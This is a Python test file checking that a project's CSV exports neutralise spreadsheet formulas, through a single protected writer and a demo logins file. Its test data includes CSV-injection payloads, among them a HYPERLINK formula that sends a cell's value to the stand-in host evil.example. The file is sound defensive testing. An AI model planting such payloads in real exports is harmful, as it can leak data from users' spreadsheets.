"""Every CSV Préau writes goes through one writer that neutralises spreadsheet formulas."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

import preau
from preau.accounts.models import Profile, Source
from preau.demo.loader import write_logins_file
from preau.demo.plan import DEMO_PREFIX
from preau.directory.actions import do_attach_to_structure
from preau.directory.models import Academy, Structure
from preau.lib import csvfile
from tests.personas import make_user

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Cliquez")', "+33 6 12", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]


def test_no_code_writes_a_csv_but_through_the_one_writer():
    package = Path(preau.__file__).parent
    offenders = []
    for path in package.rglob("*.py"):
        if path == package / "lib" / "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(package)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    alias.name in ("writer", "DictWriter") for alias in node.names):
                offenders.append(f"{path.relative_to(package)}:{node.lineno}")
    assert offenders == [], "write CSV files with preau.lib.csvfile.writer"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text(value):
    out = io.StringIO()
    csvfile.writer(out).writerow([value, "Léa", 3, None])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + value, "Léa", "3", ""]


def test_the_demo_logins_file_neutralises_names_from_the_feed(db, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    academy = Academy.objects.create(code="99", name="Démo", feed_prefix=DEMO_PREFIX)
    school = Structure.objects.create(uai="0999001A", name="École", academy=academy)
    for number, formula in enumerate(FORMULAS):
        user = make_user(formula, f"-Nom{number}", Profile.STUDENT, source=Source.AAF1D)
        do_attach_to_structure(user, school, Source.AAF1D)
    path = write_logins_file()
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert len(rows) == len(FORMULAS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert {row[2] for row in rows[1:]} >= {"'" + f for f in FORMULAS if "\t" not in f
                                           and "\r" not in f and "\n" not in f}
